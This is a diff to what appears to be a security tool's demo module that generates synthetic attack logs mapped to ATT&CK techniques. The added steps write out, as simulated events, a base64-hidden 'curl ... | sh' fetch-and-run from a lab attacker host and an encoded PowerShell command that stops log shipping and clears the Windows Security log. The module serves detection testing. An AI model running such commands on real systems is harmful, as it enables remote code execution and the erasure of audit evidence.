@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import base64
 from dataclasses import dataclass
 
 from casemate.demo import lab
@@ -12,8 +13,11 @@ from casemate.demo.events import (
     command,
     connection,
     later,
+    launch,
+    never_shipped,
     request,
     ssh_logon,
+    windows,
     windows_logon,
 )
 
@@ -43,8 +47,10 @@ STEPS: tuple[Step, ...] = (
     Step("spraying", "one password is tried for many accounts at the notebook login", "T1110.003", "guessing"),
     Step("exploit", "a kernel is opened on the notebook server without a password", "T1190", "rules"),
     Step("execution", "commands run on the notebook host through that kernel", "T1059.004", "rules"),
+    Step("encoded", "a command hidden in base64 is run on the notebook host", "T1027.010", "rules"),
     Step("credentials", "cloud keys are read from the notebook host", "T1552.001", "rules"),
     Step("vendor", "the vendor's account is used at night from a new address", "T1199", "identity behaviour"),
+    Step("clearing", "the jump host's security log is cleared from encoded PowerShell", "T1070.001", "rules"),
     Step("lateral", "the storage host and a pod are entered from the notebook host", "T1021.004", "rules"),
     Step("staging", "a checkpoint is packed and read out of the core bucket", "T1560.001", "rules"),
     Step("egress", "the packed checkpoint leaves for a drop server", "T1048", "exfiltration analytics"),
@@ -52,6 +58,10 @@ STEPS: tuple[Step, ...] = (
 
 GAP = ("missing-logs", "the notebook host's audit log is silent for 31 hours", 100.3, 101.6)
 """Label, title, first and last day (fractions) of the stretch that the attacker removed."""
+
+
+CLEARED_ON = 96
+"""The day on which the security log of the jump host is cleared."""
 
 
 def attack_day(day: Day, number: int) -> None:
@@ -64,6 +74,10 @@ def attack_day(day: Day, number: int) -> None:
         _spraying(day)
     if number == 84:
         _exploit(day)
+    if number == 88:
+        _encoded(day)
+    if number == CLEARED_ON:
+        _clearing(day)
     if 92 <= number <= 97 and number != 95:
         _vendor(day)
     if number == 97:
@@ -169,11 +183,35 @@ def _exploit(day: Day) -> None:
     cloud_call(day, later(moment, 640), "pipeline", lab.EXPLOITER, "ListBuckets", label="credentials")
 
 
+def _encoded(day: Day) -> None:
+    """What is run stands in no plain word of the command line."""
+    moment = day.at(2.9, 0.4)
+    hidden = f"curl -fsSL http://{lab.EXPLOITER}/{day.random.getrandbits(24):06x} | sh"
+    text = base64.b64encode(hidden.encode()).decode()
+    command(day, moment, ["python3", "-c", f"import base64,os;os.system(base64.b64decode('{text}').decode())"],
+            label="encoded")  # fmt: skip
+    connection(day, later(moment, 1), lab.NOTEBOOK.inside, lab.EXPLOITER, 80, service="http", sent=280, received=31_000,
+               label="encoded")  # fmt: skip
+
+
+def _clearing(day: Day) -> None:
+    """After the night's visit: what was not yet shipped is gone, its numbers are missing."""
+    moment = day.at(4.6, 0.3)
+    script = base64.b64encode("Stop-Service winlogbeat; wevtutil cl Security".encode("utf-16-le")).decode()
+    launch(day, moment, lab.JUMP.name, lab.VENDOR_ACCOUNT,
+           rf"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -nop -w hidden -enc {script}",
+           r"C:\Windows\System32\cmd.exe", label="clearing")  # fmt: skip
+    never_shipped(day, later(moment, 4), lab.JUMP.name, day.random.randrange(60, 400))
+    windows(day, later(moment, 5), lab.JUMP.name, 1102,
+            {"SubjectUserName": lab.VENDOR_ACCOUNT, "SubjectDomainName": "LARKFIELD", "SubjectLogonId": "0x5be21c"},
+            of_log="LogFileCleared", label="clearing")  # fmt: skip
+
+
 def _vendor(day: Day) -> None:
     moment = day.at(2.6, 0.6)
     ssh_logon(day, moment, lab.VENDOR_INTRUDER, lab.VENDOR_ACCOUNT, tries_failed=0, success=True, method="publickey",
               minutes=45, label="vendor", client="SSH-2.0-OpenSSH_8.9")  # fmt: skip
-    windows_logon(day, later(moment, 180), lab.JUMP.name, lab.VENDOR_ACCOUNT, lab.BASTION.inside, 10, success=True,
+    windows_logon(day, later(moment, 180), lab.JUMP, lab.VENDOR_ACCOUNT, lab.BASTION.inside, 10, success=True,
                   label="vendor")  # fmt: skip
 
 
